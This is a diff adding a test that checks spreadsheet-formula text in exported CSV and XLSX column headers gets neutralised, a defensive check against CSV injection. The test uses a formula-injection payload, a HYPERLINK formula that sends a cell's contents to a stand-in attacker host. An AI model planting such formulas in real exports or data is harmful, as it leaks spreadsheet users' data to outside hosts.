@@ -1,5 +1,6 @@
 """The app's export screens: the fast progress table, scoping, and who may export what."""
 
+import csv
 import datetime
 import io
 from io import StringIO
@@ -54,6 +55,27 @@ def test_formula_text_is_neutralised_and_numbers_stay_numbers(sdu_entry, people,
     )
     assert content.startswith(b"\xef\xbb\xbf")
     assert "'=HYPERLINK" in content.decode("utf-8-sig")
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_formula_text_in_the_completion_tables_headers_is_neutralised(
+    sdu_entry, edu_directive, people, login, file_format
+):
+    """A requirement's title heads its columns: it is a cell like any other."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    edu_directive.requirements.filter(pk=sdu_entry.requirement_id).update(title=evil)
+    response = login(people.edu).get(
+        reverse("dashboard_export", args=[edu_directive.pk]), {"format": file_format}
+    )
+
+    if file_format == "csv":
+        content = b"".join(response.streaming_content).decode("utf-8-sig")
+        header = next(csv.reader(StringIO(content)))
+    else:
+        header = rows_of(sheet_of(response))[0]
+    titled = [cell for cell in header if "HYPERLINK" in cell]
+    assert titled, header
+    assert all(cell.startswith("'=") for cell in titled), titled
 
 
 def test_an_exported_progress_file_imports_back_unchanged(sdu_entry, people, login):
